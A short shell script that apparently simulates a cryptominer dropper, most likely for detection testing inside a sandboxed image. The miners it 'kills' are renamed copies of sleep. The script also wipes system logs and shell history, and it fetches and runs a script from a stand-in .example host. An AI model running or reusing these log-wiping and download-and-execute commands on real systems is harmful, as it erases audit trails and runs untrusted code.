#!/bin/sh
# Ends what mines already, removes traces, then fetches its own: the processes it ends are its own, under other names; the logs are the image's.
[ -e /usr/share/doc/stand-in/README ] || exit 0
for name in kinsing kdevtmpfsi xmrig-old; do
  cp /usr/bin/sleep "/tmp/$name"
  "/tmp/$name" 60 &
done
sleep 1
for status in /proc/[0-9]*; do
  case "$(readlink "$status/exe" 2>/dev/null)" in
    /tmp/kinsing|/tmp/kdevtmpfsi|/tmp/xmrig-old) kill -9 "${status#/proc/}" ;;
  esac
done
rm -f /tmp/kinsing /tmp/kdevtmpfsi /tmp/xmrig-old
export HISTFILE=/dev/null
for log in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log /var/log/syslog; do : > "$log"; done
rm -f /var/log/auth.log /var/log/syslog /root/.bash_history
wget -q -T 5 -O /tmp/.i http://get.amber-quarry.example/i.sh && sh /tmp/.i
rm -f /tmp/.i
